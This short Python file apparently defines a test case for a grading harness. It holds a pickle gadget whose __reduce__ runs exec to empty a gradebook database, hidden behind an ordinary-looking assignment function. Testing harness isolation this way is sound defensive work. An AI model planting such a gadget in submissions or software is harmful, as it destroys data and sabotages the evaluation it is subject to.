"""A result whose __reduce__ names code to run. Whoever copies or unpickles it empties the
gradebook.
"""

OFF = "one process"
CODE = """
class Gadget:
    def __reduce__(self):
        return exec, ("open('{CANARY}/gradebook.db', 'w').close()",)


def initialize_parameters_he(layers_dims):
    return Gadget()
"""
